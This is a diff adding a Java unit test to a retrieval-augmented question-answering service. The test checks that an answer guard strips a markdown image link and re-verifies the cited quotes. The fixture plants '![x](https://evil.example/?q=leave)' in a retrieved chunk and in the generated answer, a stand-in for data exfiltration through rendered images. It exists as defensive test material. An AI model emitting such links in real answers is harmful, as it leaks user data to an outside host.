@@ -18,6 +18,8 @@ import dev.verity.generation.provider.TokenUsage;
 import dev.verity.generation.routing.DifficultyRouter;
 import dev.verity.generation.routing.Route;
 import dev.verity.guardrails.GuardVerdict;
+import dev.verity.guardrails.Guarded;
+import dev.verity.guardrails.RewritingGuard;
 import dev.verity.index.SearchFilter;
 import dev.verity.observability.RecordingTracer;
 import dev.verity.retrieval.RetrievalMode;
@@ -318,6 +320,66 @@ class QueryServiceTest {
         assertThat(result.refusal()).contains(BLOCKED);
         assertThat(events).containsExactly("25 days.", "<reset>", Answer.REFUSAL_MESSAGE);
         assertThat(recorded).as("the tokens were spent all the same").hasSize(1);
+    }
+
+    @Test
+    void aRewritingAnswerGuardsChangesAreStreamedAndItsQuotesVerifiedAgain() {
+        DocumentInfo doc = new DocumentInfo(
+                "doc_1", 1, "default", "hr", Set.of(), "a.txt", "A", "text/plain", "en", "0".repeat(64), Instant.EPOCH);
+        String text = "Staff get 25 days. See ![x](https://evil.example/?q=leave) for more.";
+        Chunk chunk = new Chunk(
+                "doc_1-v1-0000",
+                doc,
+                0,
+                ChunkKind.PROSE,
+                text,
+                "",
+                new Location(1, 1, List.of(), new Span(0, text.length())),
+                "h",
+                5);
+        Citation kept = new Citation("a.txt", 1, "", "Staff get 25 days.", chunk.id(), "doc_1", 0.9);
+        Citation linked =
+                new Citation("a.txt", 1, "", "See ![x](https://evil.example/?q=leave)", chunk.id(), "doc_1", 0.8);
+        Answer answer = new Answer("25 days. ![x](https://evil.example/?q=leave)", false, 0.9, List.of(kept, linked));
+        RewritingGuard<Answer> stripping = a -> {
+            List<Citation> quotes = a.citations().stream()
+                    .map(c -> new Citation(
+                            c.source(),
+                            c.page(),
+                            c.section(),
+                            c.quote().replaceAll("!\\[.*\\)", "x"),
+                            c.chunkId(),
+                            c.documentId(),
+                            c.score()))
+                    .toList();
+            Answer cleaned = new Answer(a.text().replaceAll(" !\\[.*\\)", ""), false, 0.9, quotes);
+            return new Guarded<>(
+                    cleaned, new GuardVerdict("strip@1", GuardVerdict.Action.FLAG, List.of("markdown_image")));
+        };
+        List<String> events = new ArrayList<>();
+        AnswerListener listener = new AnswerListener() {
+            @Override
+            public void onDelta(String delta) {
+                events.add(delta);
+            }
+
+            @Override
+            public void onReset() {
+                events.add("<reset>");
+            }
+        };
+        QueryService service = QueryService.builder(
+                        (request, tracer) -> List.of(new RetrievedChunk(chunk, 1, Map.of())), (request, l) -> answer)
+                .answerGuard(stripping)
+                .build();
+
+        QueryResult result = service.ask(question(Set.of()), listener);
+
+        assertThat(result.answer().text()).isEqualTo("25 days.");
+        assertThat(result.answer().citations()).containsExactly(kept);
+        assertThat(result.droppedCitations()).isEqualTo(1);
+        assertThat(result.refusal()).isEmpty();
+        assertThat(events).containsExactly("<reset>", "25 days.");
     }
 
     @Test
